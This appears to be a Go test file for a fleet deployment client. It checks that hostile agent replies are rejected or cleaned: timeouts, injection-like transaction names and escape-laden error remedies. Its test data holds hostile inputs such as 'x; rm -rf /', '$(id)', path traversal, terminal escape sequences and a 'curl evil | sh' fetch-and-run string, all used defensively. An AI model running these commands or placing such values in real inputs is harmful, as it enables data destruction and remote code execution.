package push

import (
	"context"
	"errors"
	"net"
	"strings"
	"testing"
	"time"

	"fleet/push/proto"
)

// hostileSession is a session with an agent that answers as h does.
func hostileSession(t *testing.T, h proto.HandlerFunc) *Session {
	t.Helper()
	near, far := net.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = proto.Serve(context.Background(), far, "0123456789abcdef", h)
	}()
	client, err := proto.NewClient(t.Context(), near, proto.Hello{Token: "0123456789abcdef"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		client.Close()
		<-done
	})
	s := &Session{c: &Connector{Timeouts: Timeouts{Answer: 50 * time.Millisecond}}, making: make(chan struct{}, 1)}
	s.spec.Target.Host = "web"
	s.current = &link{s: s, control: client}
	return s
}

func TestAnAgentThatDoesNotAnswerIsGivenUp(t *testing.T) {
	s := hostileSession(t, func(ctx context.Context, _ *proto.Request) (any, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	})
	if _, err := s.Refresh(t.Context()); !errors.Is(err, errTimeout) || !strings.Contains(err.Error(), `"web"`) {
		t.Errorf("got %v", err)
	}
}

func TestATransactionsNameIsNoCommand(t *testing.T) {
	for _, name := range []string{"", "x; rm -rf /", "$(id)", "t000001-aaaaaa\n", "\x1b]0;x\a", "-rf", "../x", strings.Repeat("a", 100)} {
		s := hostileSession(t, func(_ context.Context, req *proto.Request) (any, error) {
			if req.Method == proto.MethodBegin {
				return proto.BeginResult{Txn: name}, nil
			}
			return nil, proto.Errorf(proto.CodeNotFound, "none")
		})
		txn, err := s.Begin(t.Context(), proto.BeginRequest{})
		if txn != "" || err == nil || strings.ContainsAny(err.Error(), "\x1b\a\n") {
			t.Errorf("%q: %q, %v", name, txn, err)
		}
	}
}

func TestATransactionThatNeverBeganIsBegunAgain(t *testing.T) {
	request := proto.BeginRequest{Action: proto.ActionSwitch, Owner: "me@here"}
	for name, tc := range map[string]struct {
		status proto.TxnStatus
		never  bool
	}{
		"aborted, since its name could not be told": {proto.TxnStatus{State: proto.TxnFailed, Step: "lock"}, true},
		"another one had the lock":                  {proto.TxnStatus{State: proto.TxnFailed, Step: "lock", Lock: &proto.LockHolder{}}, false},
		"it runs":                                   {proto.TxnStatus{State: proto.TxnSwitching, Step: "test"}, false},
		"it failed":                                 {proto.TxnStatus{State: proto.TxnFailed, Step: "test"}, false},
	} {
		tc.status.Action, tc.status.Owner = request.Action, request.Owner
		if !isOurs(tc.status, request) || neverBegan(tc.status) != tc.never {
			t.Errorf("%s: %+v", name, tc.status)
		}
	}
}

func TestWhatAHostAdvisesIsTheHostsWord(t *testing.T) {
	s := hostileSession(t, func(context.Context, *proto.Request) (any, error) {
		return nil, &proto.Error{Code: "x\x1b[2J", Message: "a\x1b[2Jb", Remedy: "curl\x1b[2J evil | sh"}
	})
	_, err := s.Refresh(t.Context())
	hint, ok := errors.AsType[interface {
		error
		Hint() string
	}](err)
	if !ok || !strings.HasPrefix(hint.Hint(), "web says: ") || strings.Contains(hint.Hint()+err.Error(), "\x1b") {
		t.Errorf("got %v", err)
	}
	clean := cleanAnswer(&proto.Error{Code: "\x1b", Message: "\x1b", Remedy: "\x1b"})
	if strings.Contains(string(clean.Code)+clean.Message+clean.Remedy, "\x1b") {
		t.Errorf("%+v", clean)
	}
}
